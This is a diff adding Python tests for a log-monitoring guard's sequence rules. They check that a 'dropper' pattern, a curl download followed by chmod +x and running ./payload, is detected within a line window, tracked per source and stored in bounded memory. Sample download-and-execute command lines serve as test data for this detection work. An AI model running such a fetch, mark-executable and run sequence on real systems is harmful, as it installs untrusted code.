@@ -0,0 +1,66 @@
+"""Tests for multi-line sequence rules"""
+from clawcontrol.services.sequence_rules import SequenceTracker
+from clawcontrol.api.models import GuardRule, GuardRuleCreate
+
+DROPPER = ["curl ", "chmod +x", "./payload"]
+
+
+def test_sequence_within_line_window(engine):
+    """Steps in order within the window fire exactly once"""
+    rule = engine.create_rule(GuardRuleCreate(
+        name="Dropper",
+        rule_type="sequence",
+        sequence_patterns=DROPPER,
+        sequence_window_lines=5
+    ))
+    
+    lines = ["curl -o payload http://x", "ls", "chmod +x payload", "./payload --run", "./payload again"]
+    violations = engine.evaluate_log_lines(lines)
+    assert [(v.rule_id, v.log_excerpt) for v in violations] == [(rule.id, "./payload --run")]
+
+
+def test_sequence_window_expires(engine):
+    """Steps spread beyond the window do not fire"""
+    engine.create_rule(GuardRuleCreate(
+        name="Dropper",
+        rule_type="sequence",
+        sequence_patterns=DROPPER,
+        sequence_window_lines=3
+    ))
+    
+    lines = ["curl -o payload http://x", "a", "b", "chmod +x payload", "./payload"]
+    assert engine.evaluate_log_lines(lines) == []
+    
+    # A fresh start inside the window still completes
+    assert len(engine.evaluate_log_lines(["curl again", "chmod +x payload", "./payload"])) == 1
+
+
+def test_tracker_memory_is_bounded():
+    """State stays O(steps) over a long stream"""
+    rule = GuardRule(id="r", name="r", rule_type="sequence", sequence_patterns=DROPPER, sequence_window_seconds=1.0)
+    tracker = SequenceTracker(rule)
+    
+    for line_no in range(100000):
+        tracker.advance([0], line_no, line_no * 0.01)
+    assert len(tracker._starts) == len(DROPPER) + 1
+    assert tracker.advance([1], 100001, 1000.0) is False
+    assert tracker.advance([2], 100002, 1000.1) is True
+
+
+def test_sequence_state_is_per_source(engine):
+    """Steps from different sources never combine; a named source persists across calls"""
+    rule = engine.create_rule(GuardRuleCreate(
+        name="Dropper",
+        rule_type="sequence",
+        sequence_patterns=DROPPER,
+        sequence_window_lines=10
+    ))
+    
+    assert engine.evaluate_log_lines(["curl -o payload http://x"], source="live") == []
+    assert engine.evaluate_log_lines(["chmod +x payload", "./payload"]) == []
+    assert engine.evaluate_log_line("chmod +x payload") is None
+    assert engine.evaluate_log_lines(["ok"] * 20) == []
+    
+    assert engine.evaluate_log_line("chmod +x payload", source="live") is None
+    violation = engine.evaluate_log_line("./payload", source="live")
+    assert violation is not None and violation.rule_id == rule.id